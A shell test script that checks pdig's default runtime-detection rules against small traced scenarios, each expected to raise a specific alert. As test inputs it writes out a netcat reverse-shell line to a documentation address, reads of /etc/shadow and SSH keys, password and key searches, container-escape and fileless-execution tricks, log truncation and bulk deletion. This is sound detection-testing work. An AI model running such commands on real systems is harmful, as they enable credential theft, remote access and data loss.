#!/bin/sh
# pdig's default rules (rules/) end to end: the folder validates with no
# error and no warning, every rule in it is active and has a scenario here;
# each scenario is a small real program traced by pdig whose capture,
# replayed with rules/, must give exactly the expected alerts (one per
# offending system call, and no alert of any other rule); benign programs
# give none.
#
# usage: default_rules.sh PDIG ENGINE RULES_DIR GEN_DROPS
#   ENGINE: the rules mode of pdig-engine (-r/-e/-V/--json/--list-rules)
#   GEN_DROPS: test/engine/default_rules/gen_drops (a capture with drops)
#
# Nothing on the machine is modified: writes below /etc, /usr/local,
# /var/log, /root and /srv happen on a tmpfs mounted in a private mount
# namespace (unshare -m) that disappears with the scenario. Scenarios that
# need what the machine lacks (root, unshare, script, a network route) are
# listed as "not checked" with the reason; the script then exits 77 unless
# something failed.
set -u
if [ $# -ne 4 ]; then
	echo "usage: $0 PDIG ENGINE RULES_DIR GEN_DROPS" >&2
	exit 2
fi
PDIG=$(realpath "$1") ENGINE=$(realpath "$2") RULES=$(realpath "$3") GEN_DROPS=$(realpath "$4")
export PDIG
for f in "$PDIG" "$ENGINE" "$GEN_DROPS"; do
	if [ ! -x "$f" ]; then
		echo "FAIL: $f is not an executable (build the project first)"
		exit 1
	fi
done
T=$(mktemp -d) || exit 1
trap 'rm -rf "$T"' EXIT
mkdir "$T/work" "$T/bin"
# the rules must not depend on the tracer's name (images often hold a
# renamed static copy): every scenario runs under a copy called tracer
cp "$PDIG" "$T/bin/tracer" || exit 1
PDIG=$T/bin/tracer

. "$(dirname "$0")/../lib/probe.sh"
if ! "$PDIG" -q -w "$T/probe.scap" -- true 2>"$T/probe.err"; then
	pd_need trace # what pdig needs, asked natively: exits 77 if missing
	echo "FAIL: pdig cannot trace, though ptrace and seccomp work natively here: $(cat "$T/probe.err")"
	exit 1
fi

fail=0 pass=0 unchecked=0 reasons=
bad() { echo "FAIL: $*"; fail=$((fail + 1)); }
good() { echo "ok: $*"; pass=$((pass + 1)); }
skip() {
	echo "not checked: $1: $2"
	unchecked=$((unchecked + 1))
	case $reasons in *"$2"*) ;; *) reasons="$reasons${reasons:+; }$2" ;; esac
}

# ---- the rules load cleanly and are all active
"$ENGINE" -V "$RULES" >"$T/validate.out" 2>&1
rc=$?
if [ $rc -ne 0 ] || grep -qi 'warning\|error' "$T/validate.out" || ! grep -q ': Ok$' "$T/validate.out"; then
	bad "validate: $ENGINE -V $RULES exited $rc, with errors or warnings:"
	sed 's/^/    /' "$T/validate.out"
else
	good "validate: $(tail -1 "$T/validate.out")"
fi
if ! "$ENGINE" -r "$RULES" --list-rules >"$T/rules.txt" 2>"$T/rules.err"; then
	bad "--list-rules failed: $(cat "$T/rules.err")"
	exit 1
fi
if [ -s "$T/rules.err" ]; then
	bad "loading $RULES printed diagnostics:"
	sed 's/^/    /' "$T/rules.err"
fi
nrules=$(grep -c . "$T/rules.txt")
if [ "$nrules" -lt 18 ]; then
	bad "only $nrules rules loaded from $RULES"
fi
if grep -v '^active ' "$T/rules.txt" >"$T/inactive.txt"; then
	bad "rules that are not active:"
	sed 's/^/    /' "$T/inactive.txt"
fi

# ---- what the machine offers
# the real interpreter: a version-manager shim would itself start shells
PY=$(python3 -c 'import sys; print(sys.executable)' 2>/dev/null) || PY=
no_py=
[ -n "$PY" ] && [ -x "$PY" ] || no_py="python3 is not installed"
no_root=
[ "$(id -u)" -eq 0 ] || no_root="not root (needs to open /etc/shadow and mount a tmpfs)"
no_ns=$no_root
if [ -z "$no_ns" ] && ! unshare -m true 2>/dev/null; then
	no_ns="unshare -m does not work here (no mount namespaces)"
fi
no_script=
pd_have pty || no_script=$PD_MISSING
no_route=$no_py
# a non-blocking connect to TEST-NET-2 only needs a route (no packet comes back)
if [ -z "$no_route" ] && ! "$PY" -c '
import errno, socket, sys
s = socket.socket(); s.setblocking(False)
sys.exit(0 if s.connect_ex(("198.51.100.1", 4444)) in (0, errno.EINPROGRESS) else 1)'; then
	no_route="no IPv4 route to 198.51.100.1 (an outbound connection cannot start)"
fi
# netcat is rarely installed: a copy of true named nc matches by name
cp /bin/true "$T/bin/nc"
pkg=dpkg
command -v dpkg >/dev/null 2>&1 || { cp /bin/true "$T/bin/apk"; pkg="$T/bin/apk"; }

# ---- scenarios
covered=
# scenario NAME RULE COUNT MATCH MODE SETUP COMMAND
#   every alert must contain MATCH (an extended regex), which shows that
#   it comes from the offending call, not from another one
#   MODE plain: COMMAND is run by sh -c under pdig, in $T/work
#        script: COMMAND is a #! script, the entrypoint itself
#        tty:   the same inside script(1), so that it has a terminal
#        ns:    in a private mount namespace after SETUP (run as root,
#               untraced); COMMAND is traced
#   RULE "" with COUNT 0: no rule at all may fire
scenario() {
	name=$1 rule=$2 want=$3 match=$4 mode=$5 setup=$6 cmd=$7
	covered="$covered|$rule|"
	out=$T/$name.scap
	case $mode in
	plain)
		(cd "$T/work" && "$PDIG" -q -w "$out" -- sh -c "$cmd") >/dev/null 2>"$T/$name.perr" ;;
	script)
		# COMMAND is the entrypoint itself: a #! script
		printf '#!/bin/sh\n%s\n' "$cmd" >"$T/work/$name.sh" && chmod +x "$T/work/$name.sh" &&
		(cd "$T/work" && "$PDIG" -q -w "$out" -- "./$name.sh") >/dev/null 2>"$T/$name.perr" ;;
	tty)
		(cd "$T/work" && PD_OUT=$out PD_CMD=$cmd script -qec \
			'"$PDIG" -q -w "$PD_OUT" -- sh -c "$PD_CMD"' /dev/null) \
			</dev/null >/dev/null 2>"$T/$name.perr" ;;
	ns)
		(cd "$T/work" && PD_OUT=$out PD_CMD=$cmd PD_SETUP=$setup unshare -m sh -c \
			'eval "$PD_SETUP" && exec "$PDIG" -q -w "$PD_OUT" -- sh -c "$PD_CMD"') \
			>/dev/null 2>"$T/$name.perr" ;;
	esac
	if [ ! -s "$out" ]; then
		bad "$name: no capture was written: $(tail -3 "$T/$name.perr")"
		return
	fi
	check "$name" "$rule" "$want" "$match"
}

# check NAME RULE COUNT MATCH: replay $T/NAME.scap with the rules, count alerts
check() {
	name=$1 rule=$2 want=$3 match=$4
	"$ENGINE" -r "$RULES" -e "$T/$name.scap" --json -o rule_matching=all \
		>"$T/$name.json" 2>"$T/$name.err"
	rc=$?
	if [ $rc -ne 0 ]; then
		bad "$name: the engine exited $rc: $(tail -3 "$T/$name.err")"
		return
	fi
	total=$(grep -c . "$T/$name.json")
	got=$total
	[ -z "$rule" ] || got=$(grep "\"rule\":\"$rule\"" "$T/$name.json" | grep -cE -- "$match")
	if [ "$got" -ne "$want" ] || [ "$total" -ne "$want" ]; then
		bad "$name: want $want alert(s) of '${rule:-any rule}' matching '$match' and no other, got $got (of $total):"
		sed 's/^/    /' "$T/$name.json" | cut -c1-400
	else
		good "$name: $got alert(s)${rule:+ of '$rule'}"
	fi
}

# unless MISSING is empty, list the scenario as not checked
need() {
	if [ -n "$2" ]; then
		covered="$covered|$3|"
		skip "$1" "$2"
		return 1
	fi
}

# benign: common programs, including a compiler, python and tar (which
# starts gzip through sh), fire nothing
cc_cmd=
if command -v cc >/dev/null 2>&1; then
	cc_cmd="printf 'int main(void) { return 0; }\n' >t.c && cc -o t t.c && ./t; rm -f t t.c;"
else
	echo "note: no C compiler here: the benign scenario does not compile"
fi
py_cmd=
[ -n "$no_py" ] || py_cmd="$PY -c 'print(1)' >/dev/null;"
scenario benign "" 0 "" plain "" "ls / >/dev/null; cat /etc/hostname /etc/passwd >/dev/null;
	id >/dev/null; $cc_cmd $py_cmd echo hi >f; mv f g; tar czf g.tgz g && tar xzf g.tgz;
	grep -r hi . >/dev/null; find . -name '*.c' >/dev/null; mkdir -p a/b && rm -rf a g g.tgz;
	sh -c true"

need read_shadow "$no_root" "pdig sensitive file read by untrusted program" &&
	scenario read_shadow "pdig sensitive file read by untrusted program" 1 \
		"file=/etc/shadow " plain "" \
		'cat /etc/hostname /etc/shadow >/dev/null'

need ssh_key "$no_ns" "pdig ssh private key read by untrusted program" &&
	scenario ssh_key "pdig ssh private key read by untrusted program" 1 \
		"file=/root/.ssh/id_ed25519 " ns \
		'mount -t tmpfs pdig-test /root && mkdir -m 700 /root/.ssh &&
		 echo key >/root/.ssh/id_ed25519 && echo pub >/root/.ssh/id_ed25519.pub' \
		'cat /root/.ssh/id_ed25519.pub /root/.ssh/id_ed25519 >/dev/null'

etcdir=
for d in /etc/opt /etc/default /etc/skel; do
	[ -d "$d" ] && { etcdir=$d; break; }
done
no_etc=$no_ns
[ -n "$no_etc" ] || [ -n "$etcdir" ] || no_etc="no /etc/opt, /etc/default or /etc/skel to mount a tmpfs on"
need write_etc "$no_etc" "pdig write below etc" &&
	scenario write_etc "pdig write below etc" 1 "file=$etcdir/pdig-test.conf " ns \
		"mount -t tmpfs pdig-test $etcdir" \
		"echo x >$etcdir/pdig-test.conf; cat $etcdir/pdig-test.conf >/dev/null"

need write_bin "$no_ns" "pdig write below binary or library dir" &&
	scenario write_bin "pdig write below binary or library dir" 1 \
		"file=/usr/local/bin/pdig-dropped " ns \
		'mount -t tmpfs pdig-test /usr/local && mkdir /usr/local/bin' \
		'cp /bin/true /usr/local/bin/pdig-dropped && /usr/local/bin/pdig-dropped'

need write_lib "$no_ns" "pdig write below binary or library dir" &&
	scenario write_lib "pdig write below binary or library dir" 1 \
		"file=/usr/local/lib/x/libpdigtest.so " ns \
		'mount -t tmpfs pdig-test /usr/local && mkdir -p /usr/local/lib/x' \
		'echo x >/usr/local/lib/x/libpdigtest.so; cat /usr/local/lib/x/libpdigtest.so >/dev/null'

# the entrypoint has the terminal too, and is not reported
need terminal_shell "$no_script" "pdig terminal shell" &&
	scenario terminal_shell "pdig terminal shell" 1 "command=sh -c true parent=sh " tty "" 'sh -c true; true'

# python starts a shell (os.system); a shell starting a shell is a script
need shell_from_program "$no_py" "pdig shell spawned by a non-shell program" &&
	scenario shell_from_program "pdig shell spawned by a non-shell program" 1 \
		"parent=python3 " plain "" \
		"$PY -c 'import os; os.system(\"true\")'; sh -c true"

# a script entrypoint: its name is the script's, not a shell's; the shells
# it starts (and their pipelines) are a script's, not reported
scenario script_entrypoint "" 0 "" script "" \
	'sh -c true; sh -c "ls / | cat" >/dev/null; echo x | cat >/dev/null; (true); exec sh -c true'

# the rules know the entrypoint from the events, not by a name: a program
# that happens to be called pdig (a copy of xargs) starting a shell is seen
cp "$(command -v xargs)" "$T/bin/pdig"
scenario named_pdig "pdig shell spawned by a non-shell program" 1 \
	"command=sh -c true parent=pdig " plain "" \
	"echo | $T/bin/pdig sh -c true"

scenario symlink "pdig symlink over sensitive file" 1 "target=/etc/shadow " plain "" \
	'ln -s /etc/shadow l1; ln -s /etc/hostname l2; rm -f l1 l2'

# (the link to /etc/shadow may fail across filesystems: an attempt counts)
scenario hardlink "pdig hardlink over sensitive file" 1 "oldpath=/etc/shadow " plain "" \
	'ln /etc/shadow h1 2>/dev/null; ln /etc/hostname h2 2>/dev/null; rm -f h1 h2'

need ptrace "$no_py" "pdig ptrace by a traced program" &&
	scenario ptrace "pdig ptrace by a traced program" 1 "process=python3 " plain "" \
		"$PY -c 'import ctypes; ctypes.CDLL(None).ptrace(16, 1, 0, 0)'"

# a copy of true run from /dev/shm is reported, the same run from the
# scratch folder is not
scenario dev_shm "pdig execution from /dev/shm" 1 "exe=/dev/shm/pdig-test\\.[0-9]+ " plain "" \
	'cp /bin/true ./t && ./t && cp /bin/true /dev/shm/pdig-test.$$ && /dev/shm/pdig-test.$$;
	 rm -f ./t /dev/shm/pdig-test.$$'

# AF_PACKET needs root (the attempt is reported either way); AF_INET is not
need packet_socket "$no_py" "pdig packet socket" &&
	scenario packet_socket "pdig packet socket" 1 "domain=AF_PACKET " plain "" \
		"$PY -c 'import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
except OSError:
    pass'"

# u+s and g+s are reported, u+x is not
scenario setuid "pdig setuid or setgid bit set" 2 "mode=[A-Z_|]*S_IS[UG]ID" plain "" \
	'touch f && chmod u+x f && chmod u+s f && chmod g+s f; rm -f f'

# finit_module on /dev/null fails (no module, no right): the attempt counts
need kmod "$no_py" "pdig kernel module load attempt" &&
	scenario kmod "pdig kernel module load attempt" 1 "call=finit_module " plain "" \
		"$PY -c 'import ctypes, os
ctypes.CDLL(None).syscall(313, os.open(\"/dev/null\", os.O_RDONLY), b\"\", 0)'"

# /proc/1/root is reported (allowed or refused), /proc/self/root is not
scenario escape "pdig container escape attempt" 1 "call=openat target=/proc/1/root/etc/hostname " \
	plain "" 'cat /proc/1/root/etc/hostname /proc/self/root/etc/hostname >/dev/null 2>&1; true'

# a tmpfs mounted and unmounted in a private mount namespace: both calls
# are reported (mount(2) through libc: mount(8) may use the new mount API)
need mount "${no_ns:-$no_py}" "pdig mount or unmount by a traced program" &&
	scenario mount "pdig mount or unmount by a traced program" 2 \
		"call=(mount res=SUCCESS dev=pdig-test dir=[^ ]*/m type=tmpfs|umount res=SUCCESS .*target=[^ ]*/m) " \
		ns 'mount --make-rprivate / && mkdir -p m' \
		"$PY -c 'import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
assert libc.mount(b\"pdig-test\", os.path.abspath(\"m\").encode(), b\"tmpfs\", 6, None) == 0
assert libc.umount2(os.path.abspath(\"m\").encode(), 0) == 0'"

# an open through int 0x80 from 64-bit code (python writes the few
# instructions below 4 GiB): reported; its 64-bit opens are not
no_int80=$no_py
[ -n "$no_int80" ] || pd_have int80 || no_int80=$PD_MISSING
need compat32 "$no_int80" "pdig 32-bit syscall by a traced program" &&
	scenario compat32 "pdig 32-bit syscall by a traced program" 1 \
		"call=open abi=i386 res=SUCCESS fd=/etc/hostname " plain "" \
		"$PY -c 'import ctypes
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
p = libc.mmap(None, 4096, 7, 0x22 | 0x40, -1, 0)
code = b\"\\x53\\xb8\\x05\\x00\\x00\\x00\\xbb\" + (p + 64).to_bytes(4, \"little\") + b\"\\x31\\xc9\\xcd\\x80\\x5b\\xc3\"
ctypes.memmove(p, code, len(code))
ctypes.memmove(p + 64, b\"/etc/hostname\\0\", 14)
assert ctypes.CFUNCTYPE(ctypes.c_int)(p)() >= 0'"

# SIGSTOP to the tracer's front (the entrypoint's parent) is reported, the
# SIGCONT that follows and a SIGTERM to the scenario's own child are not
scenario tracer_signal "pdig tracer killed or stopped by a traced program" 1 \
	"target_pid=[0-9]+ target_tid=<NA> sig=SIGSTOP " plain "" \
	'sleep 5 & kill -TERM $!; kill -STOP $PPID; kill -CONT $PPID; wait'

# an allow-all filter: seccomp(SECCOMP_SET_MODE_FILTER) is what is reported
need seccomp_filter "$no_py" "pdig seccomp filter installed by a traced program" &&
	scenario seccomp_filter "pdig seccomp filter installed by a traced program" 1 \
		"res=SUCCESS process=python3 " plain "" \
		"$PY -c 'import ctypes
class F(ctypes.Structure):
    _fields_ = [(\"code\", ctypes.c_ushort), (\"jt\", ctypes.c_ubyte), (\"jf\", ctypes.c_ubyte), (\"k\", ctypes.c_uint)]
class P(ctypes.Structure):
    _fields_ = [(\"len\", ctypes.c_ushort), (\"filter\", ctypes.POINTER(F))]
f = (F * 1)(F(6, 0, 0, 0x7fff0000))
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(38, 1, 0, 0, 0)
assert libc.syscall(317, 1, 0, ctypes.byref(P(1, f))) == 0'"

need memfd_exec "$no_py" "pdig fileless execution" &&
	scenario memfd_exec "pdig fileless execution" 1 "exepath=/proc/self/fd/[0-9]+ memfd=true " plain "" \
		"/bin/true; $PY -c 'import os
fd = os.memfd_create(\"x\")
os.write(fd, open(\"/bin/true\", \"rb\").read())
os.execv(\"/proc/self/fd/%d\" % fd, [\"x\"])'"

# appending is how logs grow; truncating erases them
need log_truncate "$no_ns" "pdig log file truncated" &&
	scenario log_truncate "pdig log file truncated" 1 "flags=[A-Z_|]*O_TRUNC" ns \
		'mount -t tmpfs pdig-test /var/log && echo old >/var/log/app.log' \
		'echo new >>/var/log/app.log; : >/var/log/app.log'

scenario key_search "pdig search for private keys or passwords" 2 \
	"command=(find|grep) .*/nonexistent" plain "" \
	'find /nonexistent -name id_rsa 2>/dev/null; grep -ri password /nonexistent 2>/dev/null;
	 grep -q localhost /etc/hosts; find /tmp/pdig-none -name "*.txt" 2>/dev/null; true'

# 4444 is reported; 443 and loopback are not
need outbound "$no_route" "pdig outbound connection to an unusual port" &&
	scenario outbound "pdig outbound connection to an unusual port" 1 \
		"port=4444 " plain "" \
		"$PY -c 'import socket
l = socket.socket(); l.bind((\"127.0.0.1\", 0)); l.listen(1)
for addr in ((\"198.51.100.1\", 4444), (\"198.51.100.1\", 443), l.getsockname()):
    s = socket.socket(); s.setblocking(False); s.connect_ex(addr); s.close()'"

scenario netcat "pdig netcat remote code execution" 1 "command=nc -e " plain "" \
	"$T/bin/nc -e /bin/sh 198.51.100.1 4444; $T/bin/nc -z 198.51.100.1 80"

# a loopback connection (no outbound alert) dup'ed onto stdin and stdout:
# two alerts; onto fd 7, none
need dup_stdio "$no_py" "pdig standard stream redirected to network" &&
	scenario dup_stdio "pdig standard stream redirected to network" 2 \
		"fd=[01] connection=127\\.0\\.0\\.1:" plain "" \
		"$PY -c 'import os, socket
l = socket.socket(); l.bind((\"127.0.0.1\", 0)); l.listen(1)
s = socket.create_connection(l.getsockname())
os.dup2(s.fileno(), 7); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)' </dev/null"

scenario package_mgmt "pdig package management in container" 1 \
	"command=(dpkg|apk) --version " plain "" \
	"$pkg --version >/dev/null"

scenario shred "pdig bulk data removal" 1 "command=shred -u y " plain "" 'echo a >y; shred -u y'

# rm -rf of a data directory is reported, of a scratch directory not
need rm_bulk "$no_ns" "pdig bulk data removal" &&
	scenario rm_bulk "pdig bulk data removal" 1 \
		"command=rm -rf /srv/data " ns \
		'mount -t tmpfs pdig-test /srv && mkdir -p /srv/data/a /srv/data/b &&
		 touch /srv/data/a/1 /srv/data/b/2' \
		'mkdir -p d/e && rm -rf d; rm -rf /srv/data'

# pdig counts its own drops instead of writing drop events: a generated
# capture with three drops
covered="$covered|pdig syscall event drops|"
if "$GEN_DROPS" "$T/drops.scap" 3 2>"$T/drops.err"; then
	check drops "pdig syscall event drops" 3 "ratio=10[012] "
else
	bad "drops: $GEN_DROPS failed: $(cat "$T/drops.err")"
fi

# ---- every rule has a scenario
sed 's/^[a-z]* *[A-Za-z]* *//' "$T/rules.txt" >"$T/names.txt"
while IFS= read -r r; do
	case $covered in
	*"|$r|"*) ;;
	*) bad "rule '$r' has no scenario in $0" ;;
	esac
done <"$T/names.txt"

echo "$pass passed, $fail failed, $unchecked not checked"
[ $fail -eq 0 ] || exit 1
if [ $unchecked -gt 0 ]; then
	echo "SKIP: some scenarios could not run here: $reasons"
	exit 77
fi
exit 0
